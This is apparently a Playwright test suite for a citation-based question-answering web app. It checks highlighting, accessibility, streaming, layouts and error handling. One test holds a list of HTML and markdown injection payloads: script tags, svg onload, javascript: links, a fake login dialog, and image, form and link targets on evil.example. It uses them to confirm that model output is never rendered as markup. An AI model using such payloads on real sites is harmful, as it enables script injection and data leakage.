"""The pages in a real Chromium, over a scripted session."""

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.errors import ModelUnavailable
from bot.types import Answer, Event, Finished, Question, Retrieved, Statement, StatementReady, TokenWritten
from bot.web.app import mount_gradio
from tests.web.conftest import Served, build_app, write_run
from tests.web.fakes import FakeSession, cite

pytestmark = pytest.mark.web

SLOW_MS = 60_000
"""Patience for a machine that is busy with other things; the page itself is measured apart."""
SHOTS = Path(os.environ.get("CITEWIRE_ARTIFACTS", "artifacts")) / "web"


class Tab:
    """A page that remembers what it asked for, and what it complained about."""

    def __init__(self, page: Any, url: str) -> None:
        self.page = page
        self.url = url
        self.off_origin: list[str] = []
        self.errors: list[str] = []
        page.set_default_timeout(SLOW_MS)
        page.on("request", self._asked)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.url, "data:", "blob:")):
            self.off_origin.append(request.url)

    def open(self, path: str = "/") -> "Tab":
        self.page.goto(self.url + path)
        self.page.wait_for_selector("html[data-ready]")
        return self

    def ask(self, question: str) -> None:
        self.page.fill("#question", question)
        self.page.press("#question", "Enter")

    def answered(self) -> None:
        self.page.wait_for_selector(".turn.latest .actions")


@pytest.fixture
def served(serve_app: Any, tmp_path: Path) -> Served:
    runs = (write_run(tmp_path / "runs"),)
    served: Served = serve_app(build_app(tmp_path, page=mount_gradio, runs=runs))
    return served


@pytest.fixture
def tab(chromium: Any, served: Served) -> Iterator[Tab]:
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    tab = Tab(context.new_page(), served.url)
    yield tab
    context.close()
    assert tab.off_origin == []


def test_a_click_on_a_citation_shows_exactly_its_words(tab: Tab) -> None:
    tab.open().ask("Who signed the agreement?")
    tab.answered()
    page = tab.page
    assert page.locator(".sentence").count() == 3
    assert page.locator(".s-partly .support").inner_text().startswith("◐ Partly supported")
    page.click(".sentence .chip >> nth=1")
    marked = page.locator(".evidence mark.active")
    marked.first.wait_for()
    assert marked.inner_text() == (
        "Russian Defence Minister, Army General Sergey Shoigu and Qatari Minister of State for Defence Khalid bin "
        "Mohammad al-Attiyah endorsed the deal, Russia's official news agency TASS said."
    )
    assert marked.is_visible()
    page.click("text=Next ›")
    page.wait_for_function("document.querySelector('.evidence mark.active')?.innerText === 'on Wednesday'")
    assert "Wednesday before publication" in page.locator(".evidence .pane-note").inner_text()
    assert tab.errors == []


def test_words_after_an_emoji_are_marked_to_the_letter(tab: Tab) -> None:
    tab.open().ask("How many passengers?")
    tab.answered()
    assert tab.page.locator(".conflict tbody tr").count() == 2
    tab.page.click(".sentence .chip >> nth=1")
    marked = tab.page.locator(".evidence mark.active")
    marked.first.wait_for()
    assert marked.inner_text() == "The ship carried 198 passengers, its owner said. 🚢 Nobody was hurt."


def test_the_keyboard_opens_a_citation_and_comes_back(tab: Tab) -> None:
    tab.open().ask("Who signed the agreement?")
    tab.answered()
    tab.page.focus(".sentence .chip >> nth=0")
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_selector(".evidence mark.active")
    assert tab.page.evaluate("document.activeElement.className") == "pane-title"
    tab.page.keyboard.press("Escape")
    assert tab.page.evaluate("document.activeElement.className") == "chip"


def test_an_abstention_says_what_was_looked_at(tab: Tab) -> None:
    tab.open().ask("What will Qatar pay for the system?")
    tab.answered()
    card = tab.page.locator(".abstained").inner_text()
    assert "Your articles do not say" in card
    assert "Nearest passages" in card
    assert "What will Qatar pay for the system?" in card


def test_a_follow_up_shows_how_it_was_understood_and_can_be_edited(tab: Tab) -> None:
    tab.open().ask("Who signed the agreement?")
    tab.answered()
    tab.ask("What was signed there?")
    tab.answered()
    understood = tab.page.locator(".turn.latest .standalone")
    assert "What was signed in Doha?" in understood.inner_text()
    understood.locator("button").click()
    tab.page.fill(".turn.latest .standalone input", "How many passengers?")
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_function("document.querySelectorAll('.turn').length === 3")
    tab.answered()
    assert "214 passengers" in tab.page.locator(".turn.latest .answer").inner_text()


def test_stop_stops_the_model(tab: Tab, served: Served) -> None:
    chain = served.built.session.chain
    chain.endless = True
    tab.open().ask("Who signed the agreement?")
    tab.page.wait_for_selector(".draft")
    tab.page.click("#stop")
    tab.page.wait_for_selector("text=Stopped.")
    tab.page.wait_for_selector("#ask:visible")
    for _ in range(100):
        if chain.running == 0:
            break
        tab.page.wait_for_timeout(50)
    assert (chain.stopped, chain.running) == (1, 0)


def test_evidence_is_there_while_the_model_writes(tab: Tab, served: Served) -> None:
    served.built.session.chain.endless = True
    tab.open().ask("Who signed the agreement?")
    tab.page.wait_for_selector(".evidence .passages .passage")
    assert tab.page.locator(".sentence").count() == 0
    tab.page.click("#stop")


def test_nothing_jumps_while_an_answer_streams(tab: Tab, served: Served) -> None:
    served.built.session.chain.token_s = 0.01
    tab.open()
    tab.page.evaluate(
        """() => { window.shift = 0; new PerformanceObserver((l) => { for (const e of l.getEntries())
        if (!e.hadRecentInput) window.shift += e.value; }).observe({ type: 'layout-shift', buffered: false }); }"""
    )
    tab.ask("Who signed the agreement?")
    tab.answered()
    assert tab.page.evaluate("window.shift") < 0.1  # what browsers call good


def test_a_permalink_and_a_reload_show_the_same_answer(tab: Tab) -> None:
    tab.open().ask("Who signed the agreement?")
    tab.answered()
    link = tab.page.get_attribute(".turn.latest a:text('Permalink')", "href")
    tab.page.goto(link)
    tab.page.wait_for_selector(".sentence")
    assert tab.page.locator(".sentence").count() == 3
    tab.page.reload()
    tab.page.wait_for_selector(".sentence")
    assert tab.page.locator("h2.asked").inner_text() == "Who signed the agreement?"


def test_articles_are_added_and_removed(tab: Tab, tmp_path: Path) -> None:
    new = tmp_path / "harbour.txt"
    new.write_text("Harbour to close\n\nThe harbour will close in May.")
    bad = tmp_path / "picture.png"
    bad.write_bytes(b"\x89PNG")
    tab.open("/#/library")
    tab.page.wait_for_selector("#page-library tbody tr")
    tab.page.set_input_files("#page-library input[aria-label='Choose files']", [str(new), str(bad)])
    report = tab.page.locator("#page-library .file-report")
    report.wait_for()
    assert "harbour.txt – added" in report.inner_text()
    assert "picture.png – refused: looks like an image" in report.inner_text()
    tab.page.wait_for_selector("#page-library td >> text=Harbour to close")
    tab.page.click("button[aria-label='Remove Harbour to close']")
    tab.page.click("text=Really remove")
    tab.page.wait_for_selector("button[aria-label='Remove Harbour to close']", state="detached")


def test_another_model_is_chosen(tab: Tab) -> None:
    tab.open("/#/models")
    tab.page.click("button[aria-label='Answer with scripted:quick']")
    tab.page.wait_for_selector("text=scripted:quick answers from now on.")


def test_two_tabs_ask_at_once_and_keep_their_answers(tab: Tab, chromium: Any, served: Served) -> None:
    served.built.session.chain.token_s = 0.02
    context = chromium.new_context()
    other = Tab(context.new_page(), served.url).open()
    tab.open().ask("Who signed the agreement?")
    other.ask("How many passengers?")
    tab.answered()
    other.answered()
    assert "Shoigu" in tab.page.locator(".answer").inner_text()
    assert "Shoigu" not in other.page.locator(".answer").inner_text()
    assert "214 passengers" in other.page.locator(".answer").inner_text()
    context.close()


ATTACKS = (
    '<img src="http://evil.example/x.png"><form action="http://evil.example"><input name=p></form>',
    "![x](http://evil.example/leak?q=1) [click](javascript:alert(1)) <http://evil.example>",
    '<dialog open style="position:fixed;inset:0">Log in</dialog><a href="data:text/html,x">a</a>',
    "<script>document.title='owned'</script><svg onload=alert(1)>" + "- " * 2000,
)


def test_e26_words_of_a_model_never_become_markup(tab: Tab, served: Served) -> None:
    session = served.built.session
    one = session.library.article("odd-1")

    def attack(asked: Question) -> Iterator[Event]:
        yield Retrieved(asked.text, ())
        for text in ATTACKS:
            yield TokenWritten(text)
        said = tuple(
            Statement(text, (cite(one, "Nothing <b>bold</b> here.", n),), "supported", 0.9, (text,))
            for n, text in enumerate(ATTACKS, 1)
        )
        for statement in said:
            yield StatementReady(statement)
        yield Finished(_answer(session, asked, said))

    session.chain.script = attack
    tab.open().ask("attack")
    tab.answered()
    inside = tab.page.eval_on_selector_all(
        ".answer *", "all => [...new Set(all.map(e => e.localName))].sort()"
    )
    assert set(inside) <= {
        "a", "bdi", "button", "details", "div", "input", "li", "ol", "p", "q", "span", "summary",
    }  # fmt: skip
    assert (
        tab.page.locator(".answer form, .answer img, .answer svg, .answer dialog, .answer script").count()
        == 0
    )
    hrefs = tab.page.eval_on_selector_all(".answer a", "all => all.map(a => a.href)")
    assert all(href.startswith(tab.url) for href in hrefs)
    assert tab.page.title() == "citewire"
    tab.page.click(".sentence .chip >> nth=0")
    tab.page.wait_for_selector("mark.active")
    assert tab.page.locator(".article-text b").count() == 0
    assert tab.off_origin == []


def _answer(session: FakeSession, asked: Question, said: tuple[Statement, ...]) -> Answer:
    from bot.types import Tokens

    return Answer(
        id=asked.id, question=asked.text, standalone_question=asked.text, text="x", statements=said, abstained=False,
        reason=None, hits=(), model=session.engine.spec, model_digest="", prompts={}, index_fingerprint="",
        timings_s={}, tokens=Tokens(),
    )  # fmt: skip


def test_e12_a_title_cannot_turn_its_neighbours_around(tab: Tab) -> None:
    tab.open("/#/library")
    row = tab.page.locator("tr", has_text="Title that turns")
    row.wait_for()
    assert "\u202e" not in row.inner_text()
    assert row.locator("bdi").count() >= 1
    tab.page.click("nav.pages a[data-page=ask]")
    tab.ask("وقع الوزيران في الميناء")
    tab.answered()
    paragraph = tab.page.locator(".sentence p[dir=auto]").first
    assert paragraph.evaluate("e => getComputedStyle(e).direction") == "rtl"


def test_a_lost_server_is_a_state_of_the_page(tab: Tab) -> None:
    tab.open()
    tab.page.route("**/api/ask", lambda route: route.abort())
    tab.ask("Who signed?")
    tab.page.wait_for_selector("text=The server does not answer.")
    assert tab.page.locator("text=Ask again").is_visible()
    assert tab.page.input_value("#question") == "Who signed?"  # nothing typed is lost


DEAD = "Ollama is not answering at http://127.0.0.1:11434. Start it with: ollama serve"


def _dead(asked: Question) -> Iterator[Event]:
    yield Retrieved(asked.text, ())
    raise ModelUnavailable(DEAD)


def fail(tab: Tab, served: Served) -> None:
    """Has a question fail, on a page that shows something else so far."""
    served.built.session.chain.script = _dead
    tab.page.click("nav.pages a[data-page=ask]")
    tab.ask("Who signed the agreement?")
    tab.page.wait_for_selector("[role=alert]")


def test_a_dead_ollama_is_told_with_the_next_step_and_asked_again(tab: Tab, served: Served) -> None:
    chain = served.built.session.chain
    chain.script = _dead
    tab.open()
    tab.ask("Who signed the agreement?")
    tab.page.wait_for_selector(f"[role=alert]:has-text('{DEAD}')")
    assert tab.page.input_value("#question") == "Who signed the agreement?"
    chain.script = None
    tab.page.click("text=Ask again")
    tab.answered()
    assert tab.page.locator(".sentence").count() == 3
    assert tab.page.locator("[role=alert]").count() == 0
    assert tab.page.input_value("#question") == ""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_axe_finds_nothing(chromium: Any, served: Served, axe_source: str, width: int, scheme: str) -> None:
    context = chromium.new_context(
        viewport={"width": width, "height": 844}, color_scheme=scheme, bypass_csp=True
    )
    tab = Tab(context.new_page(), served.url).open()
    found: dict[str, list[str]] = {}

    def check(where: str) -> None:
        tab.page.evaluate(axe_source)
        result = tab.page.evaluate("axe.run(document.getElementById('citewire'))")
        bad = [f"{v['id']}: {v['nodes'][0]['html'][:150]}" for v in result["violations"]]
        if bad:
            found[where] = bad

    check("home")
    tab.ask("How many passengers?")
    tab.answered()
    tab.page.click(".turn.latest summary:has-text('Was this right?')")
    check("answer")
    tab.ask("What will Qatar pay for the system?")
    tab.answered()
    check("abstention")
    tab.page.click(".turn.latest .nearest button >> nth=0")
    tab.page.wait_for_selector(".article-text")
    check("article")
    tab.page.keyboard.press("Escape")
    for page in ("library", "conversations", "models", "evals"):
        tab.page.click(f"nav.pages a[data-page={page}]")
        tab.page.wait_for_selector(f"#page-{page} h1")
        tab.page.wait_for_timeout(200)
        check(page)
    tab.page.click("text=deal-two-models")
    tab.page.wait_for_selector("text=Right answers")
    check("run")
    fail(tab, served)
    check("failure")
    context.close()
    assert found == {}, json.dumps(found, indent=1)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 768, 1280, 1920])
def test_screens_fit_their_width(chromium: Any, served: Served, width: int, scheme: str) -> None:
    """Takes the screenshots that CI keeps, and checks that nothing hangs over the side."""
    height = 844 if width < 700 else 900
    context = chromium.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
    tab = Tab(context.new_page(), served.url).open()
    SHOTS.mkdir(parents=True, exist_ok=True)

    def shoot(name: str) -> None:
        over = tab.page.evaluate(
            "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        assert over <= 0, f"{name} is {over} px too wide at {width}"
        tab.page.screenshot(path=str(SHOTS / f"{name}-{width}-{scheme}.png"))

    tab.page.wait_for_timeout(300)
    shoot("home")
    tab.ask("Who signed the agreement?")
    tab.answered()
    tab.page.click(".sentence .chip >> nth=1")
    tab.page.wait_for_selector("mark.active")
    shoot("article")
    tab.page.keyboard.press("Escape")
    shoot("answer")
    tab.ask("How many passengers were on the ferry?")
    tab.answered()
    shoot("conflict")
    tab.ask("What will Qatar pay for the system?")
    tab.answered()
    shoot("abstention")
    for page in ("library", "conversations", "models", "evals"):
        tab.page.click(f"nav.pages a[data-page={page}]")
        tab.page.wait_for_selector(f"#page-{page} h1")
        tab.page.wait_for_timeout(300)
        shoot(page)
    tab.page.click("text=deal-two-models")
    tab.page.wait_for_selector("text=Wrong answers of embedded:small (2)")
    shoot("run")
    fail(tab, served)
    shoot("failure")
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 768, 1280, 1920])
def test_the_first_run_fits_and_axe_finds_nothing(
    chromium: Any, serve_app: Any, tmp_path: Path, axe_source: str, width: int, scheme: str
) -> None:
    served = serve_app(build_app(tmp_path, session=FakeSession(()), page=mount_gradio))
    height = 844 if width < 700 else 900
    context = chromium.new_context(
        viewport={"width": width, "height": height}, color_scheme=scheme, bypass_csp=True
    )
    tab = Tab(context.new_page(), served.url).open()
    tab.page.wait_for_selector("text=There are no articles yet.")
    assert tab.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    SHOTS.mkdir(parents=True, exist_ok=True)
    tab.page.screenshot(path=str(SHOTS / f"first-run-{width}-{scheme}.png"))
    tab.page.evaluate(axe_source)
    found = tab.page.evaluate("axe.run(document.getElementById('citewire'))")["violations"]
    context.close()
    assert [f"{v['id']}: {v['nodes'][0]['html'][:150]}" for v in found] == []


def test_the_first_run_offers_the_seed(chromium: Any, serve_app: Any, tmp_path: Path) -> None:
    served = serve_app(build_app(tmp_path, session=FakeSession(()), page=mount_gradio))
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    tab = Tab(context.new_page(), served.url).open()
    tab.page.wait_for_selector("text=There are no articles yet.")
    assert not tab.page.locator("#question").is_visible()
    tab.page.click("text=Add the seed article")
    tab.page.wait_for_selector("#question:visible")
    tab.ask("Who signed the agreement?")
    tab.answered()
    assert tab.page.locator(".sentence").count() == 3
    context.close()
